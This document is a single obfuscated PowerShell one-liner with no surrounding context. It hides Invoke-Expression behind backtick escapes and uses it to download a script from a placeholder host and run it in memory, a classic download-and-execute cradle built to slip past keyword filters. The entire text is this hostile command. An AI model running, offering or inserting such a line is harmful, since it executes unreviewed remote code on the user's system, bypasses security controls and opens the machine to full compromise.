i`e`x (iwr -UseBasicParsing -Uri "https://cdn.example.invalid/a.ps1").Content
